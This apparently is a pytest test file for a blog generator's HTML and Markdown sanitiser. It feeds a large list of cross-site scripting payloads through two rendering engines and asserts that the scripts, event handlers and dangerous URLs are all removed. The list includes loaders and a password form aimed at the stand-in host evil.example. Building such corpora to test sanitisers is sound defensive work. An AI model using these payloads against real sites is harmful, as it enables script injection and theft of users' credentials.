"""Hostile HTML through both engines; the outcome is judged as a browser would read it, by an HTML5 parser."""

from __future__ import annotations

import pytest
from selectolax.lexbor import LexborHTMLParser

from gitblog.model import Document, Kind, Problem, RenderedDocument, Severity
from gitblog.render import ENGINES, fill_links, render_document, sanitising

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" alt="a">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=javascript:alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<td style="text-align: left; background: url(//evil.example)">x</td>',
    "<form action=https://evil.example/><input name=password><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=checkbox onclick=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1)><option>x</select>",
    "<textarea onfocus=alert(1)>x</textarea>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>x",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=javascript:alert(1) autoplay></audio>",
    "<video><source onerror=alert(1) src=x></video>",
    "<img srcset='https://evil.example/x 1x'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/x'>x</a>",
    "<a href=x target=_blank ping=https://evil.example/>x</a>",
    "<a id=location name=location href=#x>x</a>",
    "<b id=forms>x</b><b id=cookie>y</b>",
    "<b class='menu overlay'>x</b>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '![x"onerror="alert(1)](x.png)',
    '[x](https://example.org "x\\"onclick=alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "# x {: onmouseover=alert(1) style=color:red #location }",
    '```js" onclick="alert(1)\nx\n```',
    "``` <script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: x",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><img src=x onerror=alert(1)>",
    "<p title='<!--more--><script>alert(1)</script>'>x</p>",
    "<table><td><img src=x onerror=alert(1)><svg><desc><table><script>alert(1)</script>",
]

TAGS_THAT_ACT = {
    *("script", "style", "iframe", "object", "embed", "form", "button", "svg", "math", "base", "meta", "link"),
    *("template", "textarea", "select", "frame", "frameset", "applet", "noscript", "xmp", "plaintext", "title"),
}
ATTRIBUTES_ALLOWED = {
    *("href", "src", "alt", "title", "class", "id", "align", "type", "checked", "disabled", "aria-label", "open"),
    *("data-language", "loading", "controls", "start", "lang", "dir"),
}


def rendered(body: str, engine: str) -> RenderedDocument:
    document = Document("posts/a.md", Kind.POST, "A", "a", "a", "", "", body, 1)
    result = render_document(document, engine)

    assert isinstance(result, RenderedDocument)
    return result


def assert_harmless(text: str) -> None:
    body = LexborHTMLParser(f"<!doctype html><body><main>{text}</main>", scripting=True).css_first("main")

    assert body is not None
    for node in body.traverse(include_text=True):
        assert not node.is_comment_node
        if node.is_element_node:
            assert node.tag not in TAGS_THAT_ACT
            assert_harmless_attributes(node.tag or "", node.attributes)


def assert_harmless_attributes(tag: str, attributes: dict[str, str | None]) -> None:
    assert set(attributes) <= ATTRIBUTES_ALLOWED
    for name in ("href", "src"):
        address = attributes.get(name, "#") or "#"
        assert address.startswith(("#", "/", "http:", "https:", "mailto:")), address
    if tag == "input":
        assert (attributes["type"], "disabled" in attributes) == ("checkbox", True)


def fill(text: str) -> str:
    return fill_links(text, lambda target, fragment: f"/{target}#{fragment}")


@pytest.mark.parametrize("engine", sorted(ENGINES))
@pytest.mark.parametrize("body", HOSTILE)
def test_nothing_that_acts_is_left(body: str, engine: str) -> None:
    """Body and excerpt hold no script, handler, style or dangerous address, wherever the author put one."""
    for text in (body, f"words\n\n{body}\n\nwords", f"- {body}", f"{body}\n\n<!--more-->\n\nrest"):
        result = rendered(text, engine)

        assert_harmless(fill(result.html))
        assert_harmless(fill(result.excerpt))


def test_the_corpus_is_large() -> None:
    """A corpus that somebody cut down would prove less."""
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize(
    ("body", "line", "reason", "word"),
    [
        ("one\n\n<script>x</script>", 6, "stripped-html", "<script>"),
        ("one\n\n<b id=location>x</b>", 6, "stripped-html", "'id' of <b>"),
        ('one\n\n<b onclick="x()">x</b>', 6, "stripped-html", "'onclick' of <b>"),
        ('<p style="color:red">x</p>', 4, "stripped-html", "'style' of <p>"),
        ('<div class="overlay">x</div>', 4, "stripped-html", "'class' of <div>"),
        ("<input name=x>", 4, "stripped-html", "<input>"),
        ("<blink>x</blink>", 4, "stripped-html", "<blink>"),
        ("one\n[x](javascript:y)", 5, "dropped-link", "javascript:"),
        ("one\n[x](../../y.md)", 5, "dropped-link", "out of the site's folder"),
    ],
)
def test_whatever_is_stripped_is_a_warning(body: str, line: int, reason: str, word: str) -> None:
    """The author is told what is not published, and on which line of the file it is written."""
    document = Document("posts/a.md", Kind.POST, "A", "a", "a", "", "", body, 4)
    result = render_document(document, "gfm")

    assert isinstance(result, RenderedDocument)
    (problem,) = (problem for problem in result.problems if "'name'" not in problem.message)
    assert (problem.path, problem.line, problem.reason) == ("posts/a.md", line, reason)
    assert word in problem.message
    assert problem.severity is Severity.WARNING


@pytest.mark.parametrize("engine", sorted(ENGINES))
def test_ordinary_markdown_gets_no_warning(engine: str) -> None:
    """What the engines write for themselves is not the author's, and not complained of."""
    body = (
        "# A\n\n> [!NOTE]\n> x\n\n- [x] done\n- [ ] open\n\n|a|b|\n|:--|--:|\n|1|2|\n\n"
        "```py title=x\nx\n```\n\nx[^1] y[^1] <kbd>x</kbd> ![i](i.png)\n\n[^1]: note\n"
    )
    result = rendered(body, engine)

    assert result.problems == ()


@pytest.mark.parametrize("tag", sorted(sanitising.REMOVED_WITH_CONTENT - {"embed", "frame", "frameset"}))
def test_what_is_inside_of_removed_elements_is_no_text(tag: str) -> None:
    """Programs and styles do not turn into words of the post."""
    result = rendered(f"<div>before<{tag}>x = alert(1)</{tag}></div>", "gfm")

    assert result.text == "before"


@pytest.mark.parametrize(
    ("html", "cleaned"),
    [
        ('<a href="javascript:x">a</a>', "<a>a</a>"),
        ('<a href="data:text/html,x">a</a>', "<a>a</a>"),
        ('<b onclick="x">a</b>', "<b>a</b>"),
        ('<b style="x">a</b>', "<b>a</b>"),
        ('<b class="x">a</b>', "<b>a</b>"),
        ("<script>x</script>a", "a"),
        ("a<!-- b -->", "a"),
    ],
)
def test_the_last_step_is_safe_by_itself(html: str, cleaned: str) -> None:
    """nh3 has the last word, whatever the pass before it overlooked."""
    assert sanitising.clean(html, ()) == cleaned


def test_warnings_are_bounded() -> None:
    """A file with a thousand strange tags does not fill the report."""
    result = rendered("".join(f"<x{number}>" for number in range(1000)), "gfm")

    assert len(result.problems) == 20


def test_characters_that_no_feed_may_hold_are_dropped() -> None:
    """XML knows neither NUL nor U+FFFE, raw or as an entity."""
    result = rendered("a\x00b\x08c&#8;d\ufffee &#xFFFE; f", "gfm")

    assert result.html == "<p>abcde  f</p>\n"
    assert result.text == "abcde f"


def test_a_problem_is_no_rendered_document() -> None:
    """An engine that does not exist is named with those that do."""
    document = Document("a.md", Kind.POST, "", "", "", "", "", "x", 1, markup="textile")
    result = render_document(document, "gfm")

    assert isinstance(result, Problem)
    assert result.reason == "unknown-markup"
    assert str(result) == "a.md:0:0: unknown-markup: there is no markup engine 'textile' (use gfm or python-markdown)"
